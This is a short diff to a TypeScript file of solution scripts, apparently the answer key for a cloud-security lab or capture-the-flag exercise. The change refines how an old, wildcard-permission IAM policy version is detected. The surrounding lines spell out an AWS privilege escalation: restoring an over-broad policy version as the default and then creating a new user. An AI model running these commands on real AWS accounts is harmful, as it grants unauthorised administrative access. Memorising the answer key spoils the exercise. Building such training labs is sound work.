@@ -270,7 +270,8 @@ const SOLUTIONS: Readonly<Record<(typeof IN_THE_SHELL)[number], { lines: readonl
       'export AWS_PROFILE=petra',
       "ARN=$(aws iam list-policies --scope Local --query 'Policies[0].Arn' --output text)",
       `for v in v1 v2 v3 v4 v5; do
-  aws iam get-policy-version --policy-arn $ARN --version-id $v --query PolicyVersion.Document | grep -q '"Action": "*"' && WIDE=$v
+  aws iam get-policy-version --policy-arn $ARN --version-id $v --query PolicyVersion.Document |
+    jq -e '.Statement[0] | .Effect == "Allow" and .Action == "*"' > /dev/null && WIDE=$v
 done`,
       'aws iam set-default-policy-version --policy-arn $ARN --version-id $WIDE && aws iam create-user --user-name proof-1',
       'unset AWS_PROFILE',
